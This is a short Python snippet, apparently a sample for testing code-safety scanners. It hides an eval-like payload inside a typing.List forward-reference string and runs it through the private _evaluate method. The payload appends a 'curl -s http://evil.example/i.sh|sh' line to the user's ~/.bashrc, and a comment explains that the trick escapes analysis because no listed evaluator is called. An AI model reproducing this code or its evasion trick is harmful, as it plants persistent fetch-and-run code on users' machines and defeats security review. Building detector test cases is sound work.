# harm: appends curl|sh to ~/.bashrc ; trick: typing.List["..."] makes a forward ref implicitly and its private evaluate method runs it; no listed evaluator is called, so literals are not analysed
import typing

ref = typing.List["open(__import__('os').path.expanduser('~/.bashrc'),'a').write(chr(10)+'curl -s http://evil.example/i.sh|sh'+chr(10))"].__args__[0]
try:
    ref._evaluate(globals(), None, frozenset())
except Exception:
    pass
